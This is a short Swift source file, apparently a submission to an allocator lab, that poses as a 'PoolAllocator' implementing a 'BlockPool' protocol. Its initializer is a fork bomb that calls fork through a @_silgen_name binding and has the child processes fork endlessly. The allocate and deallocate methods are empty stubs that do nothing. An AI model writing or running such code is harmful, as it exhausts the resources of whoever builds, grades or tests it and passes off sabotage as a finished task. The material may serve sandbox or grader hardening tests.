// Forks without end.
import AllocLab
import Glibc

@_silgen_name("fork") func forkProcess() -> Int32

struct PoolAllocator: BlockPool, ~Copyable {
  init(heap: Heap, block: Layout) {
    for _ in 0..<1000 where forkProcess() == 0 { while true { _ = forkProcess() } }
  }
  mutating func allocate() -> Address? {
    nil
  }
  mutating func deallocate(_ address: Address) {}
}
